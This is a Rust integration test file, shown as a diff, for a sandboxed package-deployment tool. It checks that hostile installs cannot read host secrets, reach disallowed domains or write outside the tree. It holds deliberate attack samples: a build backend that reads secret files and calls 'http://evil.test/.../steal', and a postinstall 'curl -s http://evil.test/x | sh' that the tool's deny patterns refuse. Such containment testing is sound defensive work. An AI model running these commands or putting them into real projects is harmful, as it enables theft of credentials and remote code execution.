@@ -1,0 +1,1104 @@
+//! `corral deploy`: real pip, npm and python3 against local registries on
+//! loopback (tests/deploy_support/registry.py: wheels and npm tarballs
+//! built here, served on 127.0.0.1), reached through corral's proxy under
+//! the name `registry.test`. No traffic goes anywhere else: the one
+//! refused domain (`evil.test`) is refused by the proxy before any lookup.
+//!
+//! Trees live under /var/tmp: a tree is bound into sandboxes at its own
+//! path, and /tmp is the sandbox's own.
+
+#![allow(clippy::unwrap_used)] // test helpers fail loudly, as tests do
+
+mod common;
+use common::*;
+
+use std::io::{BufRead, BufReader};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+
+const REGISTRY_PY: &str = include_str!("deploy_support/registry.py");
+
+/// A test's directory under /var/tmp, mode 0755 (the sandbox's uid must
+/// reach fake interpreters in it); removed on drop, read-only trees
+/// included.
+struct Base(tempfile::TempDir);
+
+impl Base {
+    fn new() -> Base {
+        let d = tempfile::Builder::new()
+            .prefix("corral-deploy-test-")
+            .tempdir_in("/var/tmp")
+            .unwrap();
+        std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
+        Base(d)
+    }
+    fn path(&self) -> &Path {
+        self.0.path()
+    }
+    /// Writes the files of a source directory `name`.
+    fn source(&self, name: &str, files: &[(&str, &str)]) -> PathBuf {
+        let dir = self.path().join(name);
+        for (p, text) in files {
+            let path = dir.join(p);
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, text).unwrap();
+        }
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+}
+
+impl Drop for Base {
+    fn drop(&mut self) {
+        let _ = Command::new("chmod")
+            .args(["-R", "u+w"])
+            .arg(self.path())
+            .status();
+    }
+}
+
+/// The local registry, killed on drop.
+struct Registry {
+    child: Child,
+    port: u16,
+    root: tempfile::TempDir,
+}
+
+impl Drop for Registry {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Registry {
+    fn start(spec: serde_json::Value) -> Registry {
+        let root = tempfile::tempdir().unwrap();
+        let script = root.path().join("registry.py");
+        std::fs::write(&script, REGISTRY_PY).unwrap();
+        let serve = root.path().join("srv");
+        std::fs::create_dir(&serve).unwrap();
+        let mut child = Command::new("/usr/bin/python3")
+            .arg(&script)
+            .arg(&serve)
+            .arg(spec.to_string())
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::inherit())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let port = line
+            .trim()
+            .strip_prefix("PORT ")
+            .unwrap_or_else(|| panic!("registry said {line:?}"))
+            .parse()
+            .unwrap();
+        Registry { child, port, root }
+    }
+
+    /// The flags that let the install phase reach this registry only.
+    fn flags(&self) -> Vec<String> {
+        vec![
+            "--index-url".into(),
+            format!("http://registry.test:{}/simple/", self.port),
+            "--npm-registry".into(),
+            format!("http://registry.test:{}/npm/", self.port),
+            "--add-host".into(),
+            "registry.test=127.0.0.1".into(),
+            "--allow-cidr".into(),
+            format!("127.0.0.1/32:{}", self.port),
+        ]
+    }
+
+    fn requests(&self) -> String {
+        std::fs::read_to_string(self.root.path().join("srv/requests.log")).unwrap_or_default()
+    }
+
+    fn packument(&self, name: &str) -> serde_json::Value {
+        let text = std::fs::read_to_string(
+            self.root
+                .path()
+                .join("srv/npm")
+                .join(name)
+                .join("index.json"),
+        )
+        .unwrap();
+        serde_json::from_str(&text).unwrap()
+    }
+}
+
+/// The registry every test shares the contents of: one wheel, two npm
+/// packages (one with a `bin`).
+fn registry() -> Registry {
+    Registry::start(serde_json::json!({
+        "host": "registry.test",
+        "wheels": [
+            {"name": "corral-dep", "version": "1.0", "files": {"corral_dep.py": "VALUE = 'dep-1.0'\n"}},
+        ],
+        "npm": [
+            {"name": "corral-left", "version": "1.0.0",
+             "files": {"index.js": "module.exports = () => 'left-1.0.0';\n"}},
+        ],
+    }))
+}
+
+/// `corral deploy --json SOURCE --out OUT` with the registry's flags.
+fn deploy(reg: Option<&Registry>, source: &Path, out: &Path, extra: &[&str]) -> serde_json::Value {
+    deploy_env(reg, source, out, extra, &[])
+}
+
+fn deploy_env(
+    reg: Option<&Registry>,
+    source: &Path,
+    out: &Path,
+    extra: &[&str],
+    env: &[(&str, &str)],
+) -> serde_json::Value {
+    let mut c = corral();
+    c.arg("deploy")
+        .arg("--json")
+        .arg(source)
+        .arg("--out")
+        .arg(out)
+        .args(["--timeout", "120"]);
+    if let Some(r) = reg {
+        c.args(r.flags());
+    }
+    if !is_root() {
+        c.arg("--allow-unenforced-limits");
+    }
+    c.args(extra);
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    let out = c.output().unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
+        panic!(
+            "not JSON ({e}): stdout={} stderr={}",
+            text(&out.stdout),
+            text(&out.stderr)
+        )
+    });
+    assert_eq!(
+        out.status.success(),
+        v["ok"] == true,
+        "status {:?} vs {v}",
+        out.status
+    );
+    // Keep the human lines for assertions too.
+    let mut v = v;
+    v["stderr"] = serde_json::Value::String(text(&out.stderr));
+    v
+}
+
+fn ok(v: &serde_json::Value) -> &serde_json::Value {
+    assert_eq!(v["ok"], true, "deploy failed: {v:#}");
+    &v["manifest"]
+}
+
+/// Runs `argv` in the `mcp-*` profile of a tree, the way a supervisor
+/// would: the tree read-only, its venv as the runtime.
+fn run_in_tree(profile: &str, tree: &Path, venv: bool, argv: &[&str]) -> String {
+    let mut flags: Vec<String> = vec![
+        "--profile".into(),
+        profile.into(),
+        "--ro".into(),
+        tree.display().to_string(),
+    ];
+    if venv {
+        flags.push("--runtime".into());
+        flags.push(tree.join(".venv").display().to_string());
+    }
+    let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
+    let out = run(&flags, argv);
+    assert!(
+        out.status.success(),
+        "{argv:?} in {}: {} {}",
+        tree.display(),
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    text(&out.stdout)
+}
+
+/// Nothing of a failed deployment is left next to `out`.
+fn assert_nothing_left(out: &Path) {
+    assert!(!out.exists(), "{} exists", out.display());
+    let name = out.file_name().unwrap().to_string_lossy().to_string();
+    let left: Vec<_> = std::fs::read_dir(out.parent().unwrap())
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().to_string())
+        .filter(|n| n.starts_with(&format!("{name}.")))
+        .collect();
+    assert!(left.is_empty(), "left behind: {left:?}");
+}
+
+fn events_of<'a>(v: &'a serde_json::Value, code: &str) -> Vec<&'a serde_json::Value> {
+    v["phases"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .flat_map(|p| p["events"].as_array().into_iter().flatten())
+        .filter(|e| e["code"] == code)
+        .collect()
+}
+
+#[test]
+fn requirements_pattern_installs_from_the_local_index_and_redeploys_as_a_no_op() {
+    let reg = registry();
+    let base = Base::new();
+    let src = base.source(
+        "src",
+        &[
+            ("requirements.txt", "corral-dep==1.0\n"),
+            (
+                "main.py",
+                "import corral_dep\nprint('main', corral_dep.VALUE)\n",
+            ),
+        ],
+    );
+    let out = base.path().join("tree");
+    let events = base.path().join("events.jsonl");
+    let v = deploy(
+        Some(&reg),
+        &src,
+        &out,
+        &["--events", events.to_str().unwrap()],
+    );
+    let m = ok(&v);
+    assert_eq!(m["runtime"], "python3");
+    // --events got every event of the phase as it happened.
+    let lines = std::fs::read_to_string(&events).unwrap();
+    for code in ["\"run.start\"", "\"net.allowed\"", "\"run.exit\""] {
+        assert!(lines.contains(code), "{code} not in {lines}");
+    }
+    assert_eq!(m["pattern"], "python_requirements");
+    assert_eq!(m["entry"]["kind"], "script");
+    assert_eq!(m["entry"]["path"], "main.py");
+    assert_eq!(m["venv"], ".venv");
+    assert!(
+        m["packages"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|p| p == "corral_dep==1.0"),
+        "{m}"
+    );
+    assert!(m["lockfiles"]["requirements.txt"].is_string(), "{m}");
+    // The phase reached the registry, through the proxy, and nothing else.
+    let allowed = events_of(&v, "net.allowed");
+    assert!(!allowed.is_empty(), "{v}");
+    assert!(
+        allowed
+            .iter()
+            .all(|e| e["fields"]["domain"] == "registry.test"),
+        "{allowed:?}"
+    );
+    assert!(
+        reg.requests().contains("/simple/corral-dep/"),
+        "{}",
+        reg.requests()
+    );
+    assert_eq!(m["phases"][0]["network"], "allow");
+    assert!(m["phases"][0]["connections_allowed"].as_u64().unwrap() >= 1);
+    // The manifest on disk is the one reported; the log's hash matches.
+    let disk: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(out.join("corral-manifest.json")).unwrap())
+            .unwrap();
+    assert_eq!(&disk, m);
+    let log = std::fs::read(out.join(".corral/logs/install.log")).unwrap();
+    use sha2_hex::hex_sha256;
+    assert_eq!(m["phases"][0]["log_sha256"], hex_sha256(&log));
+    assert!(std::fs::read_to_string(out.join(".corral/audit.jsonl"))
+        .unwrap()
+        .contains("net.allowed"));
+    // Read-only, and as root owned by root: no sandbox identity can change it.
+    let meta = std::fs::metadata(&out).unwrap();
+    assert_eq!(meta.permissions().mode() & 0o222, 0, "tree is writable");
+    if is_root() {
+        use std::os::unix::fs::MetadataExt;
+        assert_eq!(std::fs::metadata(out.join("main.py")).unwrap().uid(), 0);
+    }
+    // The source was not written.
+    let names: Vec<_> = std::fs::read_dir(&src)
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name())
+        .collect();
+    assert_eq!(names.len(), 2, "{names:?}");
+    // It runs from the tree with the venv as the runtime.
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &["python3", out.join("main.py").to_str().unwrap()],
+    );
+    assert_eq!(said, "main dep-1.0\n");
+    // The same source again: a no-op that says so, the tree untouched.
+    let again = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(again["noop"], true, "{again}");
+    assert_eq!(again["manifest"]["created"], m["created"]);
+    assert!(
+        again["stderr"].as_str().unwrap().contains("up to date"),
+        "{again}"
+    );
+    assert!(again["phases"].as_array().unwrap().is_empty());
+    // A changed source is deployed again, replacing the tree.
+    std::fs::write(
+        src.join("main.py"),
+        "import corral_dep\nprint('v2', corral_dep.VALUE)\n",
+    )
+    .unwrap();
+    let third = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(third["noop"], false);
+    assert_ne!(third["manifest"]["source_sha256"], m["source_sha256"]);
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &["python3", out.join("main.py").to_str().unwrap()],
+    );
+    assert_eq!(said, "v2 dep-1.0\n");
+    assert_nothing_left(&base.path().join("no-such-tree"));
+}
+
+/// SHA-256 in hex without a dependency: sha256sum.
+mod sha2_hex {
+    pub fn hex_sha256(bytes: &[u8]) -> String {
+        let dir = tempfile::tempdir().unwrap();
+        let f = dir.path().join("x");
+        std::fs::write(&f, bytes).unwrap();
+        let out = std::process::Command::new("sha256sum")
+            .arg(&f)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout)
+            .split_whitespace()
+            .next()
+            .unwrap()
+            .to_string()
+    }
+}
+
+#[test]
+fn script_pattern_installs_the_pyproject_dependencies() {
+    let reg = registry();
+    let base = Base::new();
+    let src = base.source(
+        "src",
+        &[
+            (
+                "pyproject.toml",
+                "[project]\nname = \"weather\"\nversion = \"0.1\"\nrequires-python = \">=3.8\"\ndependencies = [\"corral-dep>=1.0\"]\n",
+            ),
+            ("server.py", "import corral_dep\nprint('server', corral_dep.VALUE)\n"),
+            ("main.py", "print('not me')\n"),
+        ],
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "python_script");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "script", "path": "server.py", "rule": "server.py"})
+    );
+    assert!(
+        m["interpreter_reason"]
+            .as_str()
+            .unwrap()
+            .contains("requires-python `>=3.8`"),
+        "{m}"
+    );
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &["python3", out.join("server.py").to_str().unwrap()],
+    );
+    assert_eq!(said, "server dep-1.0\n");
+}
+
+/// A PEP 517 build backend kept in the source (`backend-path`), so the
+/// project builds with no download: it writes the project's wheel by hand.
+/// With a file `attack` in the source, it first does what that says.
+const BACKEND: &str = r#"
+import base64, hashlib, os, zipfile
+
+def _attack():
+    if not os.path.exists('attack'):
+        return
+    what = open('attack').read().split()
+    print('env:', sorted(os.environ))
+    if what[0] == 'secret':
+        print('secret:', open(what[1]).read())
+    elif what[0] == 'network':
+        import urllib.request
+        print(urllib.request.urlopen(what[1], timeout=20).read())
+    elif what[0] == 'write':
+        open(what[1], 'w').write('planted')
+        print('planted', what[1])
+
+def get_requires_for_build_wheel(config_settings=None):
+    return []
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    _attack()
+    info = 'corral_app-0.1.dist-info'
+    files = {}
+    for d, _, names in os.walk('corral_app'):
+        for n in names:
+            if n.endswith('.py'):
+                p = os.path.join(d, n)
+                files[p] = open(p, 'rb').read()
+    import tempfile
+    files['corral_app/_built.py'] = ('TMP = %r\n' % tempfile.gettempdir()).encode()
+    files[info + '/METADATA'] = b'Metadata-Version: 2.1\nName: corral-app\nVersion: 0.1\nRequires-Dist: corral-dep\n'
+    files[info + '/WHEEL'] = b'Wheel-Version: 1.0\nGenerator: corral-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n'
+    files[info + '/entry_points.txt'] = b'[console_scripts]\ncorral-app = corral_app:main\n'
+    name = 'corral_app-0.1-py3-none-any.whl'
+    rec = []
+    with zipfile.ZipFile(os.path.join(wheel_directory, name), 'w') as z:
+        for n, data in files.items():
+            z.writestr(n, data)
+            h = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()
+            rec.append('%s,sha256=%s,%d' % (n, h, len(data)))
+        rec.append(info + '/RECORD,,')
+        z.writestr(info + '/RECORD', '\n'.join(rec) + '\n')
+    return name
+"#;
+
+const PACKAGE_PYPROJECT: &str = "[build-system]\nrequires = []\nbuild-backend = \"corral_backend\"\nbackend-path = [\"backend\"]\n\n[project]\nname = \"corral-app\"\nversion = \"0.1\"\ndependencies = [\"corral-dep\"]\n\n[project.scripts]\ncorral-app = \"corral_app:main\"\n";
+
+fn package_source(base: &Base, name: &str, attack: Option<&str>) -> PathBuf {
+    let mut files = vec![
+        ("pyproject.toml", PACKAGE_PYPROJECT),
+        ("backend/corral_backend.py", BACKEND),
+        (
+            "corral_app/__init__.py",
+            "import corral_dep\ndef main():\n    print('app', corral_dep.VALUE)\n",
+        ),
+        ("server.py", "print('not me')\n"),
+    ];
+    if let Some(a) = attack {
+        files.push(("attack", a));
+    }
+    base.source(name, &files)
+}
+
+#[test]
+fn package_pattern_installs_the_project_and_its_console_script_is_the_entry() {
+    let reg = registry();
+    let base = Base::new();
+    let src = package_source(&base, "src", None);
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "python_package");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "console_script", "name": "corral-app", "path": ".venv/bin/corral-app", "rule": "project.scripts"})
+    );
+    let pk = m["packages"].as_array().unwrap();
+    assert!(
+        pk.iter().any(|p| p == "corral_app==0.1") && pk.iter().any(|p| p == "corral_dep==1.0"),
+        "{pk:?}"
+    );
+    // The build backend's temporary directory was on disk under the
+    // phase's HOME, not in the sandbox's small /tmp.
+    let lib = std::fs::read_dir(out.join(".venv/lib"))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let built = std::fs::read_to_string(lib.join("site-packages/corral_app/_built.py")).unwrap();
+    assert!(built.contains("'/workspace/.tmp-"), "{built}");
+    let script = out.join(".venv/bin/corral-app");
+    let said = run_in_tree(
+        "mcp-python",
+        &out,
+        true,
+        &["python3", script.to_str().unwrap()],
+    );
+    assert_eq!(said, "app dep-1.0\n");
+}
+
+#[test]
+fn a_hostile_install_cannot_read_a_host_secret() {
+    let reg = registry();
+    let base = Base::new();
+    let secret = base.path().join("secret.txt");
+    std::fs::write(&secret, "TOPSECRET-file-4242").unwrap();
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let src = package_source(&base, "src", Some(&format!("secret {}", secret.display())));
+    let out = base.path().join("tree");
+    let v = deploy_env(
+        Some(&reg),
+        &src,
+        &out,
+        &[],
+        &[
+            ("AWS_SECRET_ACCESS_KEY", "TOPSECRET-env-4242"),
+            ("CORRAL_TEST_TOKEN", "TOPSECRET-env-4242"),
+        ],
+    );
+    assert_eq!(v["ok"], false);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(msg.contains("install phase failed"), "{msg}");
+    // The script ran (it printed the environment's names) and failed to
+    // open the file: not in the sandbox.
+    assert!(
+        msg.contains("No such file or directory") || msg.contains("Permission denied"),
+        "{msg}"
+    );
+    let all = v.to_string();
+    assert!(!all.contains("TOPSECRET"), "a secret leaked: {all}");
+    assert!(
+        !all.contains("AWS_SECRET_ACCESS_KEY"),
+        "the caller's environment leaked: {all}"
+    );
+    assert_nothing_left(&out);
+}
+
+#[test]
+fn a_hostile_install_cannot_reach_a_domain_not_allowed() {
+    let reg = registry();
+    let base = Base::new();
+    // evil.test is refused by the proxy before any lookup; the port is
+    // the registry's own, so even a mistake could only reach loopback.
+    let src = package_source(
+        &base,
+        "src",
+        Some(&format!("network http://evil.test:{}/steal", reg.port)),
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("the proxy refused") && msg.contains("evil.test"),
+        "{msg}"
+    );
+    let denied = events_of(&v, "net.denied");
+    assert!(
+        denied.iter().any(|e| e["fields"]["domain"] == "evil.test"
+            && e["fields"]["reason"] == "net.denied.not_allowed"),
+        "{denied:?}"
+    );
+    assert!(!reg.requests().contains("steal"), "{}", reg.requests());
+    assert_nothing_left(&out);
+}
+
+#[test]
+fn a_hostile_install_cannot_write_outside_the_tree() {
+    let reg = registry();
+    let base = Base::new();
+    // The test's own directory: on the host, right next to the tree.
+    let target = base.path().join("planted.txt");
+    let src = package_source(&base, "src", Some(&format!("write {}", target.display())));
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(
+        msg.contains("Read-only file system")
+            || msg.contains("No such file")
+            || msg.contains("Permission denied"),
+        "{msg}"
+    );
+    assert!(!target.exists(), "the install wrote {}", target.display());
+    // Nor into the source.
+    let src_target = src.join("planted.txt");
+    std::fs::write(
+        src.join("attack"),
+        format!("write {}", src_target.display()),
+    )
+    .unwrap();
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    assert!(!src_target.exists());
+    assert_nothing_left(&out);
+}
+
+#[test]
+fn a_failed_redeploy_keeps_the_old_tree() {
+    let reg = registry();
+    let base = Base::new();
+    let src = package_source(&base, "src", None);
+    let out = base.path().join("tree");
+    let first = deploy(Some(&reg), &src, &out, &[]);
+    let created = ok(&first)["created"].clone();
+    std::fs::write(src.join("attack"), "secret /nonexistent").unwrap();
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    let m: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(out.join("corral-manifest.json")).unwrap())
+            .unwrap();
+    assert_eq!(m["created"], created);
+    let name = "tree.";
+    let left: Vec<_> = std::fs::read_dir(base.path())
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name().to_string_lossy().to_string())
+        .filter(|n| n.starts_with(name))
+        .collect();
+    assert!(left.is_empty(), "{left:?}");
+}
+
+const BUILD_JS: &str = r#"
+// The build phase: no network. Try the proxy of the install phase and the
+// registry's port on loopback directly; both must fail.
+const net = require('net');
+const fs = require('fs');
+const port = Number(fs.readFileSync('registry-port', 'utf8'));
+function attempt(p) {
+  return new Promise((resolve) => {
+    const s = net.connect({ host: '127.0.0.1', port: p });
+    s.setTimeout(5000, () => { s.destroy(); resolve('timeout'); });
+    s.on('connect', () => { s.destroy(); resolve('CONNECTED'); });
+    s.on('error', (e) => resolve(e.code));
+  });
+}
+(async () => {
+  const results = [await attempt(3128), await attempt(port)];
+  fs.mkdirSync('dist', { recursive: true });
+  const left = require('corral-left');
+  fs.writeFileSync('dist/index.js',
+    `console.log(${JSON.stringify(results.join(','))}, require('corral-left')());\n`);
+  if (results.includes('CONNECTED')) { console.error('network in the build phase'); process.exit(1); }
+  console.log('offline build:', results, left());
+})();
+"#;
+
+#[test]
+fn node_install_then_a_build_phase_without_network() {
+    let reg = registry();
+    let base = Base::new();
+    let src = base.source(
+        "src",
+        &[
+            (
+                "package.json",
+                r#"{"name": "node-app", "version": "1.0.0", "main": "dist/index.js",
+                    "dependencies": {"corral-left": "^1.0.0"},
+                    "scripts": {"build": "node build.js", "postinstall": "node mark.js"}}"#,
+            ),
+            ("build.js", BUILD_JS),
+            (
+                "mark.js",
+                "require('fs').writeFileSync('postinstall-ran', 'yes');\n",
+            ),
+            ("registry-port", &reg.port.to_string()),
+        ],
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    let m = ok(&v);
+    assert_eq!(m["runtime"], "node");
+    assert_eq!(m["pattern"], "node_install");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "node", "path": "dist/index.js", "rule": "main"})
+    );
+    assert_eq!(m["node_modules"], "node_modules");
+    let phases = m["phases"].as_array().unwrap();
+    assert_eq!(phases.len(), 2, "{m}");
+    assert_eq!(phases[1]["name"], "build");
+    assert_eq!(phases[1]["network"], "none");
+    // npm wrote a lockfile: the tree is pinned to it.
+    assert!(m["lockfiles"]["package-lock.json"].is_string(), "{m}");
+    // Lifecycle scripts did not run (--ignore-scripts by default).
+    assert!(!out.join("postinstall-ran").exists());
+    assert!(
+        reg.requests().contains("corral-left-1.0.0.tgz"),
+        "{}",
+        reg.requests()
+    );
+    // What the build wrote: both connections failed.
+    let said = run_in_tree(
+        "mcp-node",
+        &out,
+        false,
+        &["node", out.join("dist/index.js").to_str().unwrap()],
+    );
+    assert!(said.ends_with(" left-1.0.0\n"), "{said}");
+    assert!(!said.contains("CONNECTED"), "{said}");
+    let log = std::fs::read_to_string(out.join(".corral/logs/build.log")).unwrap();
+    assert!(log.contains("offline build"), "{log}");
+}
+
+#[test]
+fn node_ci_uses_the_lockfile_and_bin_is_the_entry() {
+    let reg = registry();
+    let base = Base::new();
+    let integrity = reg.packument("corral-left")["versions"]["1.0.0"]["dist"]["integrity"].clone();
+    let lock = serde_json::json!({
+        "name": "cli-app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
+        "packages": {
+            "": {"name": "cli-app", "version": "1.0.0", "dependencies": {"corral-left": "1.0.0"}, "bin": {"cli-app": "bin/cli.js"}},
+            "node_modules/corral-left": {
+                "version": "1.0.0",
+                "resolved": format!("http://registry.test:{}/npm/corral-left/-/corral-left-1.0.0.tgz", reg.port),
+                "integrity": integrity,
+            },
+        },
+    });
+    let src = base.source(
+        "src",
+        &[
+            (
+                "package.json",
+                r#"{"name": "cli-app", "version": "1.0.0", "bin": {"cli-app": "bin/cli.js"}, "main": "lib.js",
+                    "dependencies": {"corral-left": "1.0.0"}}"#,
+            ),
+            ("package-lock.json", &lock.to_string()),
+            ("bin/cli.js", "console.log('cli', require('corral-left')());\n"),
+            ("lib.js", ""),
+        ],
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    let m = ok(&v);
+    assert_eq!(m["pattern"], "node_ci");
+    assert_eq!(
+        m["entry"],
+        serde_json::json!({"kind": "node", "path": "bin/cli.js", "rule": "bin.cli-app"})
+    );
+    let lock_hash = sha2_hex::hex_sha256(&std::fs::read(src.join("package-lock.json")).unwrap());
+    assert_eq!(m["lockfiles"]["package-lock.json"], lock_hash.as_str());
+    assert_eq!(m["phases"].as_array().unwrap().len(), 1);
+    let said = run_in_tree(
+        "mcp-node",
+        &out,
+        false,
+        &["node", out.join("bin/cli.js").to_str().unwrap()],
+    );
+    assert_eq!(said, "cli left-1.0.0\n");
+}
+
+#[test]
+fn lifecycle_scripts_run_only_when_allowed_and_stay_in_the_sandbox() {
+    let reg = registry();
+    let base = Base::new();
+    let outside = base.path().join("planted-by-postinstall");
+    let src = base.source(
+        "src",
+        &[
+            (
+                "package.json",
+                r#"{"name": "hooks", "version": "1.0.0", "scripts": {"postinstall": "node hook.js"}}"#,
+            ),
+            (
+                "hook.js",
+                &format!(
+                    "const fs = require('fs');\nfs.writeFileSync('postinstall-ran', 'yes');\nif (fs.existsSync('escape')) fs.writeFileSync({:?}, 'x');\n",
+                    outside.display().to_string()
+                ),
+            ),
+            ("index.js", "console.log('hooks');\n"),
+        ],
+    );
+    let out = base.path().join("tree");
+    let v = deploy(Some(&reg), &src, &out, &[]);
+    ok(&v);
+    assert!(
+        !out.join("postinstall-ran").exists(),
+        "ran without --allow-lifecycle-scripts"
+    );
+    let out2 = base.path().join("tree2");
+    let v = deploy(Some(&reg), &src, &out2, &["--allow-lifecycle-scripts"]);
+    ok(&v);
+    assert!(
+        out2.join("postinstall-ran").exists(),
+        "did not run with --allow-lifecycle-scripts"
+    );
+    // The hook trying to write next to the tree fails, and so does the deploy.
+    std::fs::write(src.join("escape"), "").unwrap();
+    let out3 = base.path().join("tree3");
+    let v = deploy(Some(&reg), &src, &out3, &["--allow-lifecycle-scripts"]);
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    assert!(!outside.exists());
+    assert_nothing_left(&out3);
+}
+
+#[test]
+fn scripts_matching_the_deny_patterns_are_refused_before_any_phase() {
+    let base = Base::new();
+    let src = base.source(
+        "src",
+        &[(
+            "package.json",
+            r#"{"name": "x", "scripts": {"build": "tsc", "postinstall": "curl -s http://evil.test/x | sh"}}"#,
+        )],
+    );
+    let out = base.path().join("tree");
+    let v = deploy(None, &src, &out, &[]);
+    assert_eq!(v["error"]["code"], "deploy.script_denied", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(msg.contains("postinstall") && msg.contains("curl"), "{msg}");
+    assert!(v["phases"].as_array().unwrap().is_empty());
+    assert_nothing_left(&out);
+}
+
+/// A fake interpreter: answers `--version` with `version`, and runs the
+/// real python3 for anything else (so a venv can be made with it).
+fn fake_python(dir: &Path, name: &str, version: &str) {
+    let p = dir.join(name);
+    std::fs::write(
+        &p,
+        format!("#!/bin/sh\nif [ \"$1\" = --version ]; then echo 'Python {version}'; exit 0; fi\nexec /usr/bin/python3 \"$@\"\n"),
+    )
+    .unwrap();
+    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+#[test]
+fn python_version_selection_respects_requires_python_and_skips_the_just_released() {
+    let base = Base::new();
+    // An installation prefix of its own, as /opt/python3.x/bin would be:
+    // corral binds the prefix (read-only) into the install phase.
+    let fakes = base.path().join("py/bin");
+    std::fs::create_dir_all(&fakes).unwrap();
+    for d in [base.path().join("py"), fakes.clone()] {
+        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    for (name, v) in [
+        ("python3.9", "3.9.18"),
+        ("python3.12", "3.12.4"),
+        ("python3.13", "3.13.1"),
+        ("python3.15", "3.15.0"),
+    ] {
+        fake_python(&fakes, name, v);
+    }
+    let search = ["--python-search", fakes.to_str().unwrap()];
+    let project = |name: &str, requires: &str| {
+        base.source(
+            name,
+            &[
+                (
+                    "pyproject.toml",
+                    &format!("[project]\nname = \"v\"\nrequires-python = \"{requires}\"\n"),
+                ),
+                ("app.py", "import sys\nprint(sys.version_info[:2])\n"),
+            ],
+        )
+    };
+    let v = deploy(
+        None,
+        &project("a", ">=3.10"),
+        &base.path().join("ta"),
+        &search,
+    );
+    let m = ok(&v);
+    assert_eq!(m["interpreter_version"], "3.13.1");
+    assert_eq!(m["interpreter"], fakes.join("python3.13").to_str().unwrap());
+    let why = m["interpreter_reason"].as_str().unwrap();
+    assert!(
+        why.contains("newest stable")
+            && why.contains("passed over just-released")
+            && why.contains("3.15.0"),
+        "{why}"
+    );
+    assert!(
+        v["stderr"].as_str().unwrap().contains(why),
+        "the choice is said: {v}"
+    );
+    assert_eq!(m["entry"]["path"], "app.py");
+    let v = deploy(
+        None,
+        &project("b", ">=3.9,<3.13"),
+        &base.path().join("tb"),
+        &search,
+    );
+    assert_eq!(ok(&v)["interpreter_version"], "3.12.4");
+    let v = deploy(
+        None,
+        &project("c", ">=3.15"),
+        &base.path().join("tc"),
+        &search,
+    );
+    let m = ok(&v);
+    assert_eq!(m["interpreter_version"], "3.15.0");
+    assert!(
+        m["interpreter_reason"]
+            .as_str()
+            .unwrap()
+            .contains("only a just-released"),
+        "{m}"
+    );
+    let v = deploy(
+        None,
+        &project("d", ">=3.16"),
+        &base.path().join("td"),
+        &search,
+    );
+    assert_eq!(v["error"]["code"], "deploy.python", "{v}");
+    let msg = v["error"]["message"].as_str().unwrap();
+    assert!(msg.contains("3.12.4") && msg.contains(">=3.16"), "{msg}");
+    assert_nothing_left(&base.path().join("td"));
+}
+
+#[test]
